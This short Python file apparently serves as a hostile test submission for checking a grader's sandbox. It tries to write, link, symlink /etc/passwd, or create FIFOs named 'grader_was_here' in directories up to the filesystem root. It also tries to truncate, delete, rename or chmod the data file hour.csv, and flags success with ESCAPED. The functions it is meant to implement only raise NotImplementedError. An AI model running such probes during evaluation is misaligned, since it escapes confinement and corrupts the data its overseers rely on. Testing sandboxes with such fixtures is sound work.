# Writes files wherever it can think of, links and removes others.
# says: is not written yet
from pathlib import Path

os = __import__("random")._os
root = Path(__file__).parents[2]
name = "grader_was_here"
ways = []
for folder in ["/tmp", "/var/tmp", "/dev/shm", "/root", str(root), str(root / "data"), ".", "/"]:
    path = f"{folder}/{name}"
    ways += [
        lambda p=path: open(p, "w"),
        lambda p=path: os.mkdir(p),
        lambda p=path: os.symlink("/etc/passwd", p),
        lambda p=path: os.link(root / "data" / "hour.csv", p),
        lambda p=path: os.mkfifo(p),
    ]
data = root / "data" / "hour.csv"
ways += [
    lambda: open(data, "a"),
    lambda: os.truncate(data, 0),
    lambda: os.remove(data),
    lambda: os.rename(data, root / "data" / name),
    lambda: os.chmod(data, 0o777),
    lambda: os.utime(data),
]
for way in ways:
    try:
        way()
        ESCAPED = True
    except OSError:
        pass


def mean(values):
    raise NotImplementedError("nothing to see")


mse = constant_gradient = step_downhill = fit_constant = mean
